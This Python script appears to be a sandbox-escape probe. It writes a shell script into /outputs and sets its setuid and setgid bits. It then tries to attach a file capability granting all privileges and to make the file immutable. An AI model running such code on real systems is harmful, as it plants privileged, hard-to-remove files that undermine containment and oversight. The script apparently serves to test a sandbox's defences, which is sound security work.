import array
import fcntl
import os
import struct

from attack import attempt, leave

leave("tool.sh", "#!/bin/sh\nid\n")
path = "/outputs/tool.sh"
os.chmod(path, 0o6755)
for name in ("user.x", "system.posix_acl_access"):
    try:
        os.setxattr(path, name, b"x" * 100)
    except OSError as error:
        print("no attribute", name, error.errno)
attempt("capability", lambda: os.setxattr(path, "security.capability", struct.pack("<5I", 0x02000001, 0xFFFFFFFF, 0, 0, 0)))


def make_immutable():
    with open(path, "rb") as file:
        fcntl.ioctl(file, 0x40086602, array.array("L", [0x10]))  # FS_IOC_SETFLAGS, FS_IMMUTABLE_FL


attempt("immutable", make_immutable)
